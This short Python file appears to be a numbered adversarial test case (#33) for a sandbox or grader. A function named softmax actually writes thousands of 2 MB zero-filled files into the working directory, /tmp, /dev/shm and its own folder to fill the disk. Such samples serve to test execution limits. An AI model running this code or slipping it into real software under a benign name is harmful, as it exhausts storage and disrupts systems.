"""#33 Fill the disk: thousands of files in every folder that might be writable, and one file past the size limit."""
import os


def softmax(z, axis=-1):
    first = None
    for folder in (".", "/tmp", "/dev/shm", os.path.dirname(os.path.abspath(__file__))):
        for index in range(2000):
            try:
                with open(os.path.join(folder, f"__MARKER__-{index}.bin"), "wb") as handle:
                    handle.write(b"\0" * (2 << 20))
            except OSError as exc:
                first = first or exc
                break
    if first:
        raise first
    return "filled"
